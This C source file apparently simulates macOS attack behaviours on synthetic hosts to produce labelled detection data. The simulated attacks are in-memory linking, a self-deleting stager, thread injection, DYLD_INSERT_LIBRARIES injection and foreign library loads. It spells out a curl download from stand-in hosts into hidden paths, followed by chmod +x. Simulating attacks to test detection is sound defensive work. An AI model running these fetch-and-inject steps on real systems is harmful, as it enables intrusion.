#include "attacks.h"

#include <assert.h>

#define PLACES_MAX 3
#define STEP_NS    (1200u * MILLISECOND_NS)  // Until the next step, at most.

// What the attack did, for its label.
struct deed {
    struct process process;
    uint64_t start_ns;
    uint64_t end_ns;
};

struct attack;
typedef struct deed attack_act(struct host *h, const struct attack *a);

struct attack {
    const char *rule;
    const char *also;               // A second rule that the same behaviour must meet, or NULL.
    const char *drops[PLACES_MAX];  // The file fetched first, a place for each of the attacked
                                    // Macs in turn, up to the first NULL; no chance in the pattern.
    const char *from;
    bool is_program;  // It is made executable.
    attack_act *act;
};

static attack_act link_from_memory;
static attack_act write_then_execute;
static attack_act lose_signature;
static attack_act start_thread;
static attack_act insert_library;
static attack_act load_foreign_library;
static const char *place_of(const struct host *h, const struct attack *a);
static void fetch(struct host *h, const struct attack *a);
static void make_executable(struct host *h, const struct attack *a);
static struct process run_payload(struct host *h, const struct program *payload);
static void add_label(const struct host *h, const char *rule, const struct deed *d,
                      struct buf *labels);

#define BUNDLE_PATH "/Users/Shared/.sync/syncagent"
#define STAGER_PATH "/private/tmp/.fontcached"
#define PATCH_PATH  "~/Downloads/parlo-patch.bin"
#define INJECT_PATH "/Users/Shared/.support/attachd"
#define INSERT_PATH "/private/tmp/libhelper.dylib"

// Places from which no vendor loads a library.
#define FOREIGN_PATHS                                                    \
    "/Users/Shared/libstatus.dylib", "~/Library/.fonts/libstatus.dylib", \
        "/private/tmp/libstatus.dylib"

static const struct attack attacks[] = {
    { .rule = "S01",
      .drops = { BUNDLE_PATH },
      .from = "https://cdn.sync-update.example/agent",
      .is_program = true,
      .act = link_from_memory },
    { .rule = "S02",
      .drops = { STAGER_PATH },
      .from = "https://fonts.example/cache",
      .is_program = true,
      .act = write_then_execute },
    { .rule = "S04",
      .drops = { PATCH_PATH },
      .from = "https://patches.example/parlo",
      .act = lose_signature },
    { .rule = "S05",
      .drops = { INJECT_PATH },
      .from = "https://cdn.sync-update.example/attach",
      .is_program = true,
      .act = start_thread },
    { .rule = "S08",
      .also = "S09",
      .drops = { INSERT_PATH },
      .from = "https://files.example/h.dylib",
      .act = insert_library },
    { .rule = "S09",
      .drops = { FOREIGN_PATHS },
      .from = "https://files.example/s.dylib",
      .act = load_foreign_library },
};

static const struct program bundle_loader = { .path = BUNDLE_PATH,
                                              .signing_id = "syncagent",
                                              .linked = LINKED_FOUNDATION,
                                              .signer = SIGNER_ADHOC };
// Removes itself, so what it links stays unknown.
static const struct program stager = {
    .path = STAGER_PATH, .signing_id = "a.out", .linked = LINKED_UNSEEN, .signer = SIGNER_LINKER
};
static const struct program injector = { .path = INJECT_PATH,
                                         .signing_id = "attachd-55554944a3f1",
                                         .linked = LINKED_CORE_SERVICES,
                                         .signer = SIGNER_ADHOC };
// A vendor's application that never took up the hardened runtime.
static const struct program loose_app = {
    .path = "/Applications/Parlo Classic.app/Contents/MacOS/Parlo Classic",
    .signing_id = "com.example.parlo.classic",
    .linked = LINKED_COCOA,
    .team = "PRL0XMPL88",
    .signer = SIGNER_LOOSE,
};
// Hardened, but with library validation off for its plug-ins.
static const struct program open_app = {
    .path = "/Applications/Mosaic Studio.app/Contents/MacOS/Mosaic Studio",
    .signing_id = "com.example.mosaic",
    .linked = LINKED_COCOA,
    .claims = CLAIM_ANY_LIBRARY,
    .team = "M0SA1CXM5T",
    .signer = SIGNER_DEVELOPER,
};
// The libraries that get into the two.
static const struct program inserted_library = { .signer = SIGNER_ADHOC,
                                                 .linked = LINKED_FOUNDATION };
static const struct program foreign_library = { .signer = SIGNER_UNSIGNED,
                                                .linked = LINKED_SYSTEM };

bool attacks_parse(str names, uint32_t *out_kinds)
{
    if (str_eq(names, STR("all")) || str_eq(names, STR("none"))) {
        *out_kinds = str_eq(names, STR("all")) ? (1u << COUNT_OF(attacks)) - 1 : 0;
        return true;
    }
    uint32_t kinds = 0;
    str name;
    while (str_take_until(&names, ',', &name)) {
        size_t i = 0;
        while (i < COUNT_OF(attacks) && !str_eq(name, str_of(attacks[i].rule)))
            i++;
        if (i == COUNT_OF(attacks))
            return false;
        kinds |= 1u << i;
    }
    *out_kinds = kinds;
    return kinds != 0;
}

void attacks_plan(struct host *h, uint32_t kinds, uint64_t span_ns, struct attack_plan *out)
{
    *out = (struct attack_plan){ 0 };
    for (unsigned kind = 0; kind < COUNT_OF(attacks); kind++) {
        if ((kinds & (1u << kind)) != 0)
            out->runs[out->run_count++].kind = kind;
    }
    // The last fifth is left for finishing what has begun.
    const uint64_t share = span_ns / 5 * 4 / (out->run_count + 1);
    for (size_t i = 0; i < out->run_count; i++)
        out->runs[i].due_ns =
            h->place.now_ns + share * (i + 1) - rng_between(&h->rng, 0, share / 2);
}

bool attacks_step(struct host *h, struct attack_plan *plan, struct buf *labels)
{
    for (size_t i = 0; i < plan->run_count; i++) {
        struct attack_run *run = &plan->runs[i];
        const struct attack *a = &attacks[run->kind];
        if (run->is_over || run->due_ns > h->place.now_ns)
            continue;
        if (run->step == 0)
            fetch(h, a);
        else if (run->step == 1 && a->is_program)
            make_executable(h, a);
        else {
            const struct deed d = a->act(h, a);
            host_wait(h, 2 * SECOND_NS);
            host_exit(h, &d.process, 0);
            add_label(h, a->rule, &d, labels);
            if (a->also != NULL)
                add_label(h, a->also, &d, labels);
            run->is_over = true;
        }
        run->step++;
        run->due_ns = h->place.now_ns + rng_between(&h->rng, STEP_NS / 4, STEP_NS);
        return true;
    }
    return false;
}

void attacks_finish(struct host *h, struct attack_plan *plan, struct buf *labels)
{
    do {
        for (size_t i = 0; i < plan->run_count; i++)
            plan->runs[i].due_ns = 0;
        host_wait(h, STEP_NS);
    } while (attacks_step(h, plan, labels));
}

static const char *place_of(const struct host *h, const struct attack *a)
{
    size_t count = 1;  // There is always one.
    while (count < PLACES_MAX && a->drops[count] != NULL)
        count++;
    return a->drops[h->index / ATTACKED_OF % count];
}

static void fetch(struct host *h, const struct attack *a)
{
    const char *const args[] = { "curl", "-fsSL", "-o", place_of(h, a), a->from, NULL };
    const struct process p =
        host_spawn(h, h->shell, &(struct launch){ .program = &program_curl, .args = args });
    host_read_file(h, &p, "/private/etc/ssl/cert.pem");
    (void)host_write_file(h, &p, place_of(h, a));
    host_exit(h, &p, 0);
}

static void make_executable(struct host *h, const struct attack *a)
{
    const char *const args[] = { "chmod", "+x", place_of(h, a), NULL };
    const struct process p =
        host_spawn(h, h->shell, &(struct launch){ .program = &program_chmod, .args = args });
    host_exit(h, &p, 0);
}

static struct process run_payload(struct host *h, const struct program *payload)
{
    const struct launch launch = { .program = payload, .code = h->place.salt, .is_new = true };
    const struct process p = host_spawn(h, h->shell, &launch);
    host_wait(h, 400 * MILLISECOND_NS);
    return p;
}

// NSCreateObjectFileImageFromMemory and NSLinkModule: dyld writes the image to a file after all.
static struct deed link_from_memory(struct host *h, const struct attack *a)
{
    (void)a;
    struct deed d = { .start_ns = h->place.now_ns };
    d.process = run_payload(h, &bundle_loader);
    const struct file f =
        host_write_file(h, &d.process, "$/NSCreateObjectFileImageFromMemory-********");
    host_open(h, &d.process, &f);
    host_map_foreign(h, &d.process, &f, NULL);
    host_wait(h, 30 * MILLISECOND_NS);
    d.end_ns = h->place.now_ns;
    host_unlink(h, &d.process, &f);
    return d;
}

static struct deed write_then_execute(struct host *h, const struct attack *a)
{
    (void)a;
    struct deed d = { .start_ns = h->place.now_ns };
    d.process = run_payload(h, &stager);
    const uint64_t address = host_any_address(h);
    const uint64_t size = 65536;
    host_protect(h, &d.process, address, size, PROTECT_READ | PROTECT_WRITE);
    host_wait(h, 900 * MILLISECOND_NS);
    d.end_ns = h->place.now_ns;
    host_protect(h, &d.process, address, size, PROTECT_READ | PROTECT_EXECUTE);
    const struct file self = place_new_file(&h->place, &h->rng, STAGER_PATH);
    host_unlink(h, &d.process, &self);
    return d;
}

static struct deed lose_signature(struct host *h, const struct attack *a)
{
    (void)a;
    struct deed d = { .start_ns = h->place.now_ns };
    d.process = host_spawn(h, NULL, &(struct launch){ .program = &loose_app });
    host_wait(h, 3 * SECOND_NS);
    d.process.flags &= ~CS_FLAG_VALID;
    d.end_ns = h->place.now_ns;
    host_invalidate(h, &d.process);
    return d;
}

static struct deed start_thread(struct host *h, const struct attack *a)
{
    (void)a;
    struct deed d = { .start_ns = h->place.now_ns };
    const struct process target = *host_any_app(h);
    d.process = run_payload(h, &injector);
    host_access(h, EVENT_GET_TASK, &d.process, &target);
    host_wait(h, 700 * MILLISECOND_NS);
    d.end_ns = h->place.now_ns;
    host_access(h, EVENT_REMOTE_THREAD_CREATE, &d.process, &target);
    return d;
}

static struct deed insert_library(struct host *h, const struct attack *a)
{
    (void)a;
    struct deed d = { .start_ns = h->place.now_ns };
    d.process = host_spawn(
        h, h->shell,
        &(struct launch){ .program = &loose_app, .env = "DYLD_INSERT_LIBRARIES=" INSERT_PATH });
    const struct file f = place_new_file(&h->place, &h->rng, INSERT_PATH);
    host_open(h, &d.process, &f);
    d.end_ns = h->place.now_ns;
    host_map_foreign(h, &d.process, &f, &inserted_library);
    return d;
}

static struct deed load_foreign_library(struct host *h, const struct attack *a)
{
    struct deed d = { .start_ns = h->place.now_ns };
    d.process = host_spawn(h, NULL, &(struct launch){ .program = &open_app });
    host_wait(h, 2 * SECOND_NS);
    const struct file f = place_new_file(&h->place, &h->rng, place_of(h, a));
    host_open(h, &d.process, &f);
    d.end_ns = h->place.now_ns;
    host_map_foreign(h, &d.process, &f, &foreign_library);
    return d;
}

static void add_label(const struct host *h, const char *rule, const struct deed *d,
                      struct buf *labels)
{
    char start[JSON_TIME_SIZE];
    char end[JSON_TIME_SIZE];
    const str start_text = json_time(d->start_ns, 9, start);
    const str end_text = json_time(d->end_ns, 9, end);
    buf_printf(labels, "{\"rule\":\"%s\",\"host\":\"%s\",\"pid\":%u,\"pidversion\":%u,", rule,
               h->id, d->process.token.pid, d->process.token.pidversion);
    buf_add(labels, STR("\"executable\":\""));
    buf_add_json(labels, str_of(d->process.path));
    buf_printf(labels, "\",\"start\":\"%.*s\",\"end\":\"%.*s\"}\n", STR_ARG(start_text),
               STR_ARG(end_text));
    assert(!labels->failed);
}
